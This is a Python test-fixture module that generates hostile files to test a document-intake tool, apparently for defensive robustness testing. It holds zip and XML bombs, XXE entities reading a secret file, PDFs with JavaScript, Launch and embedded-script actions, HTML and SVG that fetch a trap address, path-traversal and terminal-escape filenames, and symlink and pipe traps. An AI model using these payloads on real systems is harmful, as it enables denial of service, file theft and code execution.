"""Files made to harm, each with a sentence that must be said of it: for the tests of the command line, and for `benchmarks.hostile`.

`address` is one that must never be called, `canary` a file that must never come to be, `secret` one whose words must never be read.
"""

from __future__ import annotations

import os
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

from tests.intake.documents.made import assembled, docx, odt, pdf, run, zipped

SECRET = "words of another file of this machine"
PAGES = 10_000
_LINES = [(20, 150, "Ada was taken")]
_BOMB = "unpack to far more"
_TORN = "broken or cut off"
_PNG = (b"\x89PNG\r\n\x1a\n" + b"".join(
    struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    for kind, body in ((b"IHDR", struct.pack(">2I5B", 64, 64, 8, 0, 0, 0, 0)), (b"IDAT", zlib.compress((b"\0" + b"\x80" * 64) * 64)),
                       (b"IEND", b""))))
_MAIL = (b"From: office@example.org\nTo: desk@example.org\nSubject: the harbour\nMIME-Version: 1.0\n"
         b'Content-Type: multipart/mixed; boundary="cut"\n\n--cut\nContent-Type: text/plain\n\nAda was taken\n'
         b"--cut\nContent-Disposition: attachment; filename=\"../../a.txt\"\n\nattached words\n--cut--\n")


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file: what kind it is, its name, its bytes, and what must be said of it: "" if nothing is, because it is read as any other."""

    kind: str
    name: str
    data: bytes
    says: str = ""


@dataclass(frozen=True, slots=True)
class Trap:
    """What a file may try to reach."""

    address: str
    canary: Path
    secret: Path


def files(trap: Trap) -> list[Hostile]:
    """All of them; every name is another one."""
    return [*_bombs(), *_pdfs(trap), *_pages(trap), *_entities(trap), *_wrong(trap), *_torn(), *_odd()]


def _bombs() -> Iterator[Hostile]:
    full = run("a" * 60_000_000)
    yield Hostile("DOCX that unpacks to 60 MB", "flat.docx", docx(full), _BOMB)
    yield Hostile("DOCX bomb inside a DOCX", "nested.docx", zipped({
        **_parts(docx(run("Ada"))), "word/embeddings/inner.docx": docx(full)}))
    yield Hostile("DOCX of 12 parts of 9 MB", "many.docx", docx(run("Ada"), **{
        f"header{number}": run(f"{number}" + "a" * 9_000_000) for number in range(12)}), "longer than")
    yield Hostile("DOCX of overlapping parts", "overlapping.docx", _overlapping(), _BOMB)
    yield Hostile("DOCX of 20,000 parts", "parts.docx", zipped({
        **_parts(docx(run("Ada"))), **{f"word/{number}.xml": b"" for number in range(20_000)}}), _BOMB)
    yield Hostile("DOCX with elements 50,000 deep", "deep.docx", docx("<w:p>" * 50_000 + "</w:p>" * 50_000), "too deep")
    yield Hostile("ODT that unpacks to 60 MB", "bomb.odt", odt(f"<text:p>{'a' * 60_000_000}</text:p>"), _BOMB)


def _parts(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(archive)) as parts:
        return {name: parts.read(name) for name in parts.namelist()}


def _overlapping() -> bytes:
    """An archive whose list of parts names the same 60 MB two hundred times."""
    body = b"<d>" + b"a" * 60_000_000 + b"</d>"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(body) + packer.flush()
    name = b"word/document.xml"
    common = struct.pack("<5H3I2H", 20, 0, 8, 0, 0, zlib.crc32(body), len(packed), len(body), len(name), 0)
    local = b"PK\x03\x04" + common + name + packed
    listed = (b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<3H2I", 0, 0, 0, 0, 0) + name) * 200
    return local + listed + b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 200, 200, len(listed), len(local), 0)


def _pdfs(trap: Trap) -> Iterator[Hostile]:
    yield Hostile(f"PDF of {PAGES:,} pages", "long.pdf", pdf(*([(20, 150, f"page {number}")] for number in range(1, PAGES + 1))))
    deeds = {
        "JavaScript": f"/S /JavaScript /JS (app.launchURL\\('{trap.address}'\\); this.exportDataObject\\({{nLaunch:2}}\\))",
        "Launch": f"/S /Launch /F (/bin/touch) /Win << /F (cmd.exe) /P (/c echo > {trap.canary}) >>",
        "URI": f"/S /URI /URI ({trap.address})",
        "SubmitForm": f"/S /SubmitForm /F << /FS /URL /F ({trap.address}) >>"}
    for name, deed in deeds.items():
        yield Hostile(f"PDF that opens with {name}", f"{name}.pdf", pdf(
            _LINES, extra=f"/OpenAction << {deed} >> /AA << /WC << {deed} >> >> /Names << /JavaScript << /Names [(a) << {deed} >>] >> >> "))
    drawn = "BT /F1 10 Tf 20 150 Td (Ada was taken) Tj ET"
    page = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont "
            "/Helvetica >> >> /XObject << /Fm 5 0 R >> >> /Contents 4 0 R >>")
    start = ["<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(run.sh) 6 0 R] >> >> >>",
             "<< /Type /Pages /Count 1 /Kids [3 0 R] >>", page]
    script = f"#!/bin/sh\ntouch {trap.canary}\n"
    yield Hostile("PDF with a program inside", "embedded.pdf", assembled([
        *start, f"<< /Length {len(drawn)} >>\nstream\n{drawn}\nendstream", "null", "<< /Type /Filespec /F (run.sh) /EF << /F 7 0 R >> >>",
        f"<< /Type /EmbeddedFile /Length {len(script)} >>\nstream\n{script}\nendstream"]))
    form = "/Fm Do " * 20
    yield Hostile("PDF whose form draws itself", "itself.pdf", assembled([
        *start, f"<< /Length {len(drawn + form)} >>\nstream\n{drawn} {form}\nendstream",
        "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Fm 5 0 R >> >> "
        f"/Length {len(form)} >>\nstream\n{form}\nendstream", "null"]), "time or memory")
    yield Hostile("PDF whose pages are their own parent", "ring.pdf", assembled([
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>"]), "broken")
    squeezed = zlib.compress(zlib.compress(b"(" + b"a" * 100_000_000 + b") Tj"))
    yield Hostile("PDF whose stream unpacks to 100 MB", "stream.pdf", assembled([
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        f"<< /Length {2 * len(squeezed) + 1} /Filter [/ASCIIHexDecode /FlateDecode /FlateDecode] >>\n"
        f"stream\n{squeezed.hex()}>\nendstream"]), "no words")


def _pages(trap: Trap) -> Iterator[Hostile]:
    to = trap.address
    yield Hostile("HTML with scripts, events and remote parts", "page.html", (
        f'<!doctype html><html><head><base href="{to}"><meta http-equiv="refresh" content="0;url={to}"><link rel="stylesheet" href="{to}">'
        f'<link rel="preload" as="script" href="{to}"><style>@import url({to}); p {{ background: url({to}) }}</style>'
        f'<script src="{to}"></script><script>fetch("{to}")</script></head><body onload="fetch(\'{to}\')"><iframe src="{to}"></iframe>'
        f'<object data="{to}"></object><embed src="{to}"><video src="{to}" poster="{to}"></video><img src="{to}" onerror="fetch(\'{to}\')">'
        f'<svg><script>fetch("{to}")</script><image href="{to}"/></svg><form action="{to}"><input onfocus="fetch(\'{to}\')"></form>'
        "<p>Ada was taken</p></body></html>").encode())
    yield Hostile("SVG with a script", "drawing.svg", (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{to}\')"><script>fetch("{to}")</script><image href="{to}"/>'
        "<text>Ada was taken</text></svg>").encode())
    yield Hostile("HTML of nothing but a script", "script.html", b"<html><script>document.write('Ada')</script></html>", "no words")
    yield Hostile("HTML with elements 200,000 deep", "deep.html", b"<div>" * 200_000 + b"Ada was taken")
    yield Hostile("HTML of comments that never end", "comments.html", b"<html>" + b"<!--" * 200_000, "time or memory")
    yield Hostile("DOCX whose parts are elsewhere", "elsewhere.docx", zipped({
        **_parts(docx(f'<w:p><w:r><w:instrText>INCLUDETEXT {to}</w:instrText><w:t>Ada was taken</w:t></w:r></w:p>')),
        "word/_rels/document.xml.rels": f'<Relationships><Relationship Id="r" Target="{to}" TargetMode="External" Type="'
                                        'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
                                        "</Relationships>"}))


def _entities(trap: Trap) -> Iterator[Hostile]:
    laughs = "<!DOCTYPE d [<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{number} '{f'&a{number - 1};' * 10}'>" for number in range(1, 12)) + "]>"
    outside = f"<!DOCTYPE d [<!ENTITY x SYSTEM '{trap.secret.as_uri()}'><!ENTITY y SYSTEM '{trap.address}'>]>"
    for kind, head, body in (("entities that unfold", laughs, "<d>&a11;</d>"), ("entities from outside", outside, "<d>&x;&y;</d>"),
                             ("a grammar from outside", f"<!DOCTYPE d SYSTEM '{trap.address}'>", "<d/>")):
        says = "no words" if "grammar" in kind else "XML entities"
        short = kind.rpartition(" ")[2] + kind[0]
        yield Hostile(f"DOCX with {kind}", f"{short}.docx", zipped({"word/document.xml": head + body}), says)
        yield Hostile(f"ODT with {kind}", f"{short}.odt", zipped({"content.xml": head + body, "mimetype": "x"}), says)
        yield Hostile(f"XHTML with {kind}", f"{short}.xhtml", f"<?xml version='1.0'?>{head}<html><p>Ada &a11; &x; &y;</p></html>".encode())
        yield Hostile(f"XML with {kind}", f"{short}.xml", f"<?xml version='1.0'?>{head}{body}".encode())


def _wrong(trap: Trap) -> Iterator[Hostile]:
    yield Hostile("PDF called .txt", "really-pdf.txt", pdf(_LINES), "by its bytes it is application/pdf")
    yield Hostile("HTML called .pdf", "really-html.pdf", b"<html><p>Ada was taken</p></html>", "by its bytes it is text/html")
    program = b"\x7fELF\x02\x01\x01" + bytes(9) + bytes(range(256)) * 40
    yield Hostile("a program called .docx", "program.docx", program, "its bytes are something else")
    yield Hostile("a program called .txt", "program.txt", program, "zero bytes")
    yield Hostile("a script called .txt", "script.txt", f"#!/bin/sh\ntouch {trap.canary}\n".encode())
    yield Hostile("PNG called .eml", "picture.eml", _PNG, "picture")
    yield Hostile("archive called .pdf", "archive.pdf", zipped({"../../a.txt": "Ada"}), "an archive")


def _torn() -> Iterator[Hostile]:
    wholes = {"docx": docx(run("Ada was taken. " * 400)), "pdf": pdf(*[_LINES] * 5), "png": _PNG, "eml": _MAIL}
    says = {"docx": (_TORN, _TORN, _TORN), "pdf": (_TORN, _TORN, _TORN), "png": ("", "", ""), "eml": ("", "", "")}
    for sort, data in wholes.items():
        for tenths, told in zip((1, 5, 9), says[sort], strict=True):
            yield Hostile(f"{sort.upper()} of which {tenths}0% is there", f"torn{tenths}.{sort}", data[:len(data) * tenths // 10],
                          told or ("picture" if sort == "png" else ""))


def _odd() -> Iterator[Hostile]:
    yield Hostile("text in no encoding", "noise.txt", bytes(range(128, 256)) * 40, "encoding cannot be made out")
    yield Hostile("text that says it is UTF-16 and is not", "mark.txt", b"\xff\xfe" + b"\x00\xd8" * 9 + b"a", "cannot be read as utf-16")
    yield Hostile("HTML in an encoding that runs code elsewhere", "codec.html", b'<meta charset="zip"><p>Ada was taken \xe9</p>', "read as")
    nested = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (number, number) for number in range(3_000))
    yield Hostile("mail with 3,000 parts inside one another", "nested.eml", b"From: a@example.org\n" + nested + b"\nAda\n", "deep")
    yield Hostile("mail with 3,000 parts", "wide.eml", b"From: a@example.org\nContent-Type: multipart/mixed; boundary=b\n\n"
                  + b"--b\n\nAda\n" * 3_000 + b"--b--\n", "more than 1,000 parts")
    yield Hostile("text full of codes for terminals", "codes.txt", (
        "Ada Brand was arrested on 3 May 1984\x1b]0;owned\x07\x1b[2J.\nAda Brand\x9b31m was released on 5 May 1984\x1b[31m.\n"
        "\rhidden\x08\x7f \u202egpj.exe\u202c\n").encode())
    yield Hostile("empty file", "empty.txt", b"", "is empty")
    yield Hostile("file of zero bytes", "zeros.txt", bytes(5_000), "is empty")
    if os.name == "posix":
        names = {"with a line end": "ada\n  forged.pdf: all is well.txt", "with codes for terminals": "\x1b]0;owned\x07\x1b[2J.txt",
                 "that turns the writing": "a\u202etxt.exe", "of 255 bytes": "n" * 251 + ".txt",
                 "that looks like an option": "--encoding=x.txt",
                 "that looks like a way out": "up\\..\\..\\etc\\passwd.txt", "of nothing but spaces": "   "}
        for place, (kind, name) in enumerate(names.items()):
            yield Hostile(f"file name {kind}", name, f"Ada was taken, number {place}\n".encode())


def odd_places(folder: Path, outside: Path) -> dict[str, str]:
    """Put into a folder what is no file: pipes, links, devices. What must be said of each, by name."""
    (folder / "ring").symlink_to(folder / "gnir")
    (folder / "gnir").symlink_to(folder / "ring")
    (folder / "self").symlink_to(folder)
    (folder / "out.txt").symlink_to(outside)
    (folder / "zero.txt").symlink_to("/dev/zero")
    (folder / "nowhere.txt").symlink_to(folder / "nothing")
    os.mkfifo(folder / "pipe.txt")
    with (folder / "endless.txt").open("wb") as file:
        file.truncate(2_000_000_000_000)
    link = "a link to a folder or out of this one"
    return {"ring": "leads nowhere", "gnir": "leads nowhere", "self": link, "out.txt": link, "zero.txt": link,
            "nowhere.txt": "leads nowhere", "pipe.txt": "a pipe, a device or the like", "endless.txt": "larger than 1,000 MB"}
